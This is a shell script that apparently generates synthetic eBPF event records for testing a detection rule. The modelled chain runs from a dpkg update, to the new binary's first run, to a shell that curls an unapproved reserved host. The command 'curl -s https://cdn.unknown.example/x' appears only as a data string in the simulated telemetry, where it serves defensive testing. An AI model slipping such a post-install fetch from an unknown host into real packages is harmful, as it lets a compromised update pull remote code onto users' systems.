# SPDX-License-Identifier: Apache-2.0
# A chain of DET0309 as an eBPF recorder would see it on a Linux host: dpkg
# writes a program, its first run starts a shell, that one curl, and curl asks a
# host that nobody approved. Reserved names and addresses only.

chain() { # HOST SECOND PROGRAM: events of one host, from SECOND on
	event() { # TYPE SECONDS-LATER FIELDS
		number=$((number + 1))
		printf '{"type":"%s","time":"2026-03-01T12:%02d:%02dZ","host":"%s","os":"linux","source_kind":"ebpf","record":%d,%s}\n' \
			"$1" $(((start + $2) / 60)) $(((start + $2) % 60)) "$host" "$number" "$3"
	}
	process() { # PID PARENT IMAGE COMMAND
		printf '"process":{"pid":%d,"start_time":%d,"parent_pid":%d,"user":"root","command_line":"%s","image":{"path":"%s","content":"elf"}}' \
			"$1" $((start * 1000 + $1)) "$2" "$4" "$3"
	}
	host=$1 start=$2 number=$(($2 * 100))
	dpkg=$(process 100 1 /usr/bin/dpkg "dpkg -i $3_2.0_amd64.deb")
	program=$(process 200 1 "/usr/bin/$3" "$3 --check")
	shell=$(process 201 200 /usr/bin/dash "sh -c 'curl -s https://cdn.unknown.example/x'")
	curl=$(process 202 201 /usr/bin/curl "curl -s https://cdn.unknown.example/x")
	event process_start 0 "$dpkg"
	event package 1 "$dpkg,\"package\":{\"operation\":\"update\",\"manager\":\"dpkg\",\"name\":\"$3\",\"version\":\"2.0\",\"old_version\":\"1.9\"}"
	event file_write 2 "$dpkg,\"file\":{\"path\":\"/usr/bin/$3\",\"content\":\"elf\",\"size\":40000,\"mode\":33261}"
	event process_exit 3 "$dpkg"
	event process_start 4 "$program"
	event process_start 5 "$shell"
	event process_start 6 "$curl"
	event dns 7 "$curl,\"dns\":{\"query\":\"cdn.unknown.example\",\"query_type\":1,\"answers\":[\"203.0.113.9\"]}"
	event connection 8 "$curl,\"connection\":{\"protocol\":6,\"address\":\"203.0.113.9\",\"port\":443}"
}
